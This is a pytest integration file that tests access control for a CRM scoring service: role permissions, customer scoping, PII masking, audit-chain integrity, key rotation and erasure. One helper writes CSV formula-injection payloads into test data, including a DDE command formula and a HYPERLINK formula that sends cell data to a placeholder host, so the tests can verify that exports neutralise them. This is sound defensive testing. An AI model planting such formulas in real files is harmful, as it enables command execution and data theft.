"""Roles, scope, masking, audit, key rotation and erasure against the REAL service over HTTP (issue 18).

One server for the module: a copy of the session registry's data dir (with owner and team ids, from the
generator), a keys file with one principal per role, and the shared test keys of ``conftest`` (admin). The
keys file is edited while the server runs (rotation, revocation, expiry) and ``crmscore forget`` runs against
the same data dir and audit trail.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
from typer.testing import CliRunner

from serving.access import audit
from serving.access.keys import add_key, revoke_key
from tests.integration.conftest import API_KEYS, Registry, lead_features, running_server

AS_OF = "2025-06-01"
ROLES = ("admin", "manager", "sales", "analyst", "integration")
MASKED_PHONE = re.compile(r"^\d{3}\*{4}\d{4}$")


class Ctx:
    """The running server, its keys per role, its data dir and the customers table."""

    def __init__(self, url: str, home: Path, log: Path, data: Path, keys_file: Path, keys: dict[str, str]) -> None:
        self.url, self.home, self.log, self.data, self.keys_file, self.keys = url, home, log, data, keys_file, keys
        self.customers = pd.read_parquet(data / "customers.parquet")

    def client(self, role: str | None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {self.keys[role]}"} if role else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=120)

    @property
    def audit_file(self) -> Path:
        return self.home / "audit" / "audit.jsonl"

    def customer(self, owner: str | None, team: str | None = None, with_phone: bool = True) -> pd.Series:
        c = self.customers
        m = (c["owner_id"] == owner) if owner else c["owner_id"].isna()
        if team:
            m &= c["team_id"] == team
        if with_phone:
            m &= c["phone"].notna() & c["name"].notna() & c["email"].notna()
        return c.loc[m.fillna(False).to_numpy(dtype=bool)].iloc[0]


@pytest.fixture(scope="module")
def ctx(crm_registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ctx]:
    work = tmp_path_factory.mktemp("access_svc")
    data = work / "data"
    shutil.copytree(crm_registry.data, data)
    keys_file = work / "keys.yaml"
    keys = {
        "admin": add_key(keys_file, "ada", "admin")[0],
        "manager": add_key(keys_file, "mia", "manager", team="east")[0],
        "sales": add_key(keys_file, "sam", "sales", owner_id="r001", team="east")[0],
        "analyst": add_key(keys_file, "ana", "analyst")[0],
        "integration": add_key(keys_file, "ivy", "integration")[0],
        "shared": API_KEYS[0],
    }
    env = {"CRMSCORE_DATA_DIR": str(data), "CRMSCORE_AS_OF": AS_OF, "CRMSCORE_PIN_MODELS": "1",
           "CRMSCORE_KEYS_FILE": str(keys_file), "CRMSCORE_RECORDS": "0"}
    with running_server(crm_registry, work / "svc", env) as server:
        yield Ctx(server.url, server.home, server.log, data, keys_file, keys)


def _bodies(ctx: Ctx, crm_registry: Registry) -> dict[str, dict[str, Any] | None]:
    rows, _ = lead_features(crm_registry, AS_OF, n=2)
    leads = [{"customer_id": r.pop("customer_id"), "features": r} for r in rows]
    cust = ctx.customer("r001")
    return {
        "/score_leads": {"leads": leads},
        "/predict_churn": {"leads": leads},
        "/segment": {"customers": [{"customer_id": "c1", "summary": {"frequency": 1.0}}]},
        "/coupon_uplift": {"customers": [{"id": "k", "features": {}}]},
        "/route_lead": {"lead": {"lead_id": "k", "city": "上海"}},
        "/model_info": None,
        "/drift": None,
        "/forecast": None,
        "/ui/api/status": None,
        "/ui/api/search": {"q": str(cust["customer_id"])},
        "/ui/api/profile": {"customer_id": str(cust["customer_id"])},
        "/recommend": {"customer_id": str(ctx.customer("r001", "east")["customer_id"])},
        "/next_action": {"customers": [{"customer_id": "c1", "lead_grade": "A"}]},
        "/ui/api/next_steps": {"customer_id": str(cust["customer_id"])},
    }


#: the permission matrix as the tests expect it (docs/access.md): path → roles allowed
ALLOWED = {
    "/score_leads": set(ROLES),
    "/predict_churn": set(ROLES),
    "/segment": set(ROLES),
    "/coupon_uplift": set(ROLES),
    "/route_lead": set(ROLES),
    "/model_info": {"admin", "manager", "sales", "analyst"},
    "/drift": {"admin", "manager", "analyst"},
    "/forecast": {"admin", "manager", "sales", "analyst"},
    "/ui/api/status": {"admin", "manager", "sales", "analyst"},
    "/ui/api/search": {"admin", "manager", "sales", "analyst"},
    "/ui/api/profile": {"admin", "manager", "sales", "analyst"},
    "/recommend": set(ROLES),
    "/next_action": set(ROLES),
    "/ui/api/next_steps": {"admin", "manager", "sales", "analyst"},
}


def test_role_by_endpoint_matrix(ctx: Ctx, crm_registry: Registry) -> None:
    from serving.http.middleware import PROTECTED

    bodies = _bodies(ctx, crm_registry)
    assert set(bodies) == set(PROTECTED) == set(ALLOWED)
    got: dict[tuple[str, str], int] = {}
    for role in (*ROLES, "shared"):
        with ctx.client(role) as c:
            for path, body in bodies.items():
                r = c.get(path) if body is None else c.post(path, json=body)
                got[(role, path)] = r.status_code
                if r.status_code == 403:
                    assert f"the role {role} may not call {path}" in r.json()["error"]
    # an allowed call reaches the service and gets what the shared (admin) key gets: 200, or for the models the
    # test registry lacks (segments, uplift) 503, for /forecast without a forecast run 404; a refused one 403
    admin = {path: got[("shared", path)] for path in bodies}
    assert all(admin[p] == 200 for p in ("/score_leads", "/predict_churn", "/model_info", "/drift", "/ui/api/status",
                                         "/ui/api/search", "/ui/api/profile")), admin
    assert all(s not in (401, 403) for s in admin.values()), admin
    expected = {(role, path): admin[path] if role == "shared" or role in ALLOWED[path] else 403
                for role in (*ROLES, "shared") for path in bodies}
    assert got == expected
    with ctx.client(None) as c:  # open paths stay open; protected ones need a key
        assert c.get("/metrics").status_code == 200
        assert c.get("/ui").status_code == 200
        assert c.get("/model_info").status_code == 401


def test_out_of_scope_customer_is_404_like_an_unknown_one(ctx: Ctx) -> None:
    theirs = ctx.customer("r004", "south")
    mine = ctx.customer("r001", "east")
    team_mate = ctx.customer("r002", "east")
    cid = str(theirs["customer_id"])
    for role in ("sales", "manager"):
        with ctx.client(role) as c:
            unknown = c.post("/ui/api/profile", json={"customer_id": "NO-SUCH-ID"})
            hidden = c.post("/ui/api/profile", json={"customer_id": cid})
            assert hidden.status_code == unknown.status_code == 404
            assert hidden.json() == unknown.json()
            found = c.post("/ui/api/search", json={"q": cid}).json()
            assert found["total"] == 0 and found["matches"] == []
            assert c.post("/ui/api/profile", json={"customer_id": str(mine["customer_id"])}).status_code == 200
            # the other by-id lookups answer the same: no existence leak through recommendations or next steps
            for path in ("/recommend", "/ui/api/next_steps"):
                unknown = c.post(path, json={"customer_id": "NO-SUCH-ID"})
                hidden = c.post(path, json={"customer_id": cid})
                assert hidden.status_code == unknown.status_code == 404, (role, path, hidden.text[:200])
                assert hidden.json() == unknown.json(), (role, path)
                assert c.post(path, json={"customer_id": str(mine["customer_id"])}).status_code != 404, (role, path)
    with ctx.client("manager") as c:
        assert c.post("/ui/api/profile", json={"customer_id": str(team_mate["customer_id"])}).status_code == 200
    with ctx.client("sales") as c:
        assert c.post("/ui/api/profile", json={"customer_id": str(team_mate["customer_id"])}).status_code == 404
    # a name search lists only the caller's customers, though other owners' customers match
    surname = str(mine["name"])[:1]
    by_id = ctx.customers.set_index("customer_id")
    everyone = ctx.customers["name"].fillna("").str.contains(surname, regex=False)
    assert ctx.customers.loc[everyone, "owner_id"].nunique() > 1
    for role, column, value in (("sales", "owner_id", "r001"), ("manager", "team_id", "east")):
        with ctx.client(role) as c:
            res = c.post("/ui/api/search", json={"q": surname}).json()
        assert res["matches"], role
        assert {by_id.loc[m["customer_id"], column] for m in res["matches"]} == {value}, role
    with ctx.client("analyst") as c:
        assert c.post("/ui/api/profile", json={"customer_id": cid}).status_code == 200


def test_pii_is_masked_for_the_analyst_in_every_response(ctx: Ctx) -> None:
    cust = ctx.customer("r001")
    cid, raw = str(cust["customer_id"]), {k: str(cust[k]) for k in ("name", "phone", "email")}
    with ctx.client("analyst") as c:
        prof = c.post("/ui/api/profile", json={"customer_id": cid})
        search = c.post("/ui/api/search", json={"q": raw["name"]})
        by_id = c.post("/ui/api/search", json={"q": cid})
    for r in (prof, search, by_id):
        assert r.status_code == 200, r.text
        for v in raw.values():
            assert v not in r.text, (r.request.url.path, v)
    body = prof.json()
    assert body["pii_masked"] is True
    shown = body["customer"]
    assert MASKED_PHONE.match(shown["phone"]) and shown["phone"][-4:] == raw["phone"][-4:]
    assert shown["email"] == raw["email"][0] + "***@" + raw["email"].split("@")[1]
    assert shown["name"].endswith("*")
    assert all(m["name"] is None or m["name"].endswith("*") for m in search.json()["matches"])
    with ctx.client("sales") as c:
        own = c.post("/ui/api/profile", json={"customer_id": cid}).json()
    assert own["customer"]["phone"] == raw["phone"] and own["pii_masked"] is False


def test_every_view_is_audited_in_an_intact_chain_without_pii(ctx: Ctx, tmp_path: Path) -> None:
    from serving.cli.main import app

    cust = ctx.customer("r001")
    cid = str(cust["customer_id"])
    with ctx.client("analyst") as c:
        for _ in range(2):
            assert c.post("/ui/api/profile", json={"customer_id": cid}).status_code == 200
        assert c.post("/ui/api/search", json={"q": str(cust["name"])}).status_code == 200
    views = audit.query(who="ana", customer=cid, path=ctx.audit_file)
    assert [e["action"] for e in views][-3:] == ["view_profile", "view_profile", "search"]
    assert all(e["role"] == "analyst" and e["masked"] is True for e in views)
    assert "phone" in views[-2]["fields"]
    text = ctx.audit_file.read_text(encoding="utf-8")
    log = ctx.log.read_text(encoding="utf-8", errors="replace")
    for v in (cust["name"], cust["phone"], cust["email"]):
        assert str(v) not in text and str(v) not in log
    runner = CliRunner()
    ok = runner.invoke(app, ["audit", "verify", "--file", str(ctx.audit_file)])
    assert ok.exit_code == 0 and "chain intact" in ok.output, ok.output
    who = runner.invoke(app, ["audit", "--since", "1d", "--customer", cid, "--file", str(ctx.audit_file)])
    assert who.exit_code == 0 and "ana (analyst)  view_profile" in who.output, who.output
    lines = text.splitlines()
    tampered = tmp_path / "tampered.jsonl"
    tampered.write_text("\n".join([lines[0], *lines[2:]]) + "\n", encoding="utf-8")  # one line removed
    bad = runner.invoke(app, ["audit", "verify", "--file", str(tampered)])
    assert bad.exit_code == 1 and "BROKEN at line 2" in bad.output, bad.output


def test_keys_rotate_and_expire_without_a_restart(ctx: Ctx) -> None:
    key, entry = add_key(ctx.keys_file, "rita", "analyst")
    old, _ = add_key(ctx.keys_file, "olga", "analyst", expires_at=datetime.now(UTC) - timedelta(seconds=1))
    with httpx.Client(base_url=ctx.url, timeout=60) as c:
        def status(k: str) -> int:
            return c.get("/model_info", headers={"Authorization": f"Bearer {k}"}).status_code

        assert status(key) == 200  # the new key works at once
        expired = c.get("/model_info", headers={"Authorization": f"Bearer {old}"})
        assert expired.status_code == 401 and expired.json()["error"] == "API key expired"
        revoke_key(ctx.keys_file, entry.id)
        revoked = c.get("/model_info", headers={"Authorization": f"Bearer {key}"})
        assert revoked.status_code == 401 and revoked.json()["error"] == "API key revoked"
        assert status(ctx.keys["analyst"]) == 200  # the other keys are untouched


def _score_input(ctx: Ctx, crm_registry: Registry, tmp_path: Path) -> tuple[Path, pd.Series]:
    """A lead list with PII pass-through columns and formula payloads in ids, names and a feature value."""
    rows, _ = lead_features(crm_registry, AS_OF, n=6)
    df = pd.DataFrame(rows)
    target = ctx.customer("r001")
    df.loc[0, "customer_id"] = str(target["customer_id"])
    df["name"] = ["=cmd|' /C calc'!A0", *[str(target["name"])] * (len(df) - 1)]
    df["phone"] = str(target["phone"])
    df["email"] = str(target["email"])
    df.loc[1, "customer_id"] = '=HYPERLINK("http://x.example/?"&A1,"x")'
    df.loc[2, "customer_id"] = "@SUM(A1:A2)"
    num = next(c for c in df.columns if c not in ("customer_id", "name", "phone", "email")
               and pd.api.types.is_numeric_dtype(df[c]))
    df[num] = df[num].astype(object)
    df.loc[3, num] = "=2+3"  # rejected: a formula where a number belongs
    path = tmp_path / "leads.csv"
    df.to_csv(path, index=False)
    return path, target


def test_score_export_is_masked_neutralised_audited_and_erasable(
    ctx: Ctx, crm_registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from serving.cli.main import app

    monkeypatch.setenv("MLFLOW_TRACKING_URI", crm_registry.uri)
    monkeypatch.setenv("MLFLOW_REGISTRY_URI", crm_registry.uri)
    monkeypatch.setenv("CRMSCORE_KEYS_FILE", str(ctx.keys_file))
    monkeypatch.setenv("CRMSCORE_AUDIT_FILE", str(ctx.audit_file))
    monkeypatch.setenv("CRMSCORE_HOME", str(ctx.home))
    src, target = _score_input(ctx, crm_registry, tmp_path)
    pii = [str(target[k]) for k in ("name", "phone", "email")]
    runner = CliRunner()
    outs = {}
    for role in ("analyst", "sales"):
        monkeypatch.setenv("CRMSCORE_KEY", ctx.keys[role])
        out = tmp_path / f"scored_{role}.csv"
        r = runner.invoke(app, ["score", "--input", str(src), "--output", str(out), "--keep", "name,phone,email",
                                "--no-records", "--threads", "1"])
        assert r.exit_code == 0, r.output
        outs[role] = out
    monkeypatch.setenv("CRMSCORE_KEY", ctx.keys["integration"])
    refused = runner.invoke(app, ["audience", "export", "--data", str(ctx.data), "--tags", str(tmp_path),
                                  "--out", str(tmp_path / "a.csv")])
    assert refused.exit_code == 2 and "may not export audiences" in refused.output
    monkeypatch.delenv("CRMSCORE_KEY")

    masked = pd.read_csv(outs["analyst"], dtype=str, keep_default_na=False)
    assert all(MASKED_PHONE.match(p) for p in masked["phone"])
    for v in pii:
        assert v not in outs["analyst"].read_text(encoding="utf-8")
    full = pd.read_csv(outs["sales"], dtype=str, keep_default_na=False)
    assert set(full["phone"]) == {pii[1]}
    for frame in (masked, full):  # formulas neutralised in ids and names; numbers stay numbers
        assert "'=cmd|' /C calc'!A0" in set(frame["name"]) or "=" not in "".join(frame["name"])
        assert not any(v[:1] in "=+-@" for col in ("customer_id", "name") for v in frame[col])
        assert {'\'=HYPERLINK("http://x.example/?"&A1,"x")', "'@SUM(A1:A2)"} <= set(frame["customer_id"])
        assert pd.to_numeric(frame["probability"]).between(0, 1).all()
    rejects = pd.read_csv(Path(str(outs["sales"]) + ".rejects.csv"), dtype=str, keep_default_na=False)
    assert "'=2+3" in set(rejects["value"])
    exports = [e for e in audit.query(path=ctx.audit_file) if e["action"] == "export_scores"]
    assert [e["principal"] for e in exports[-2:]] == ["ana", "sam"] and exports[-2]["masked"] is True

    # erasure: no file the project wrote still holds the customer's name, phone or e-mail
    cid = str(target["customer_id"])
    with ctx.client("admin") as c:
        assert c.post("/ui/api/profile", json={"customer_id": cid}).json()["customer"]["phone"] == pii[1]
    r = runner.invoke(app, ["forget", "--customer-id", cid, "--data", str(ctx.data), "--home", str(ctx.home)])
    assert r.exit_code == 0, r.output
    written = [p for root in (ctx.data, ctx.home, tmp_path) for p in root.rglob("*") if p.is_file()]
    written = [p for p in written if p != src]  # the input is the CRM's file, not one the project wrote
    assert any(p.suffix == ".csv" for p in written)
    for f in written:
        raw = f.read_bytes()
        for v in pii:
            assert v.encode() not in raw and json.dumps(v).encode()[1:-1] not in raw, (f, v)
    scored = pd.read_csv(outs["sales"], dtype=str, keep_default_na=False)
    assert len(scored) == len(full) and scored["probability"].tolist() == full["probability"].tolist()
    with ctx.client("admin") as c:  # the running server dropped the PII from its profile index
        after = c.post("/ui/api/profile", json={"customer_id": cid})
    assert after.status_code == 200 and all(v not in after.text for v in pii)
    tomb = [e for e in audit.query(customer=cid, path=ctx.audit_file) if e["action"] == "forget"]
    assert tomb and tomb[-1]["principal"].startswith("local:") and audit.verify(ctx.audit_file).ok
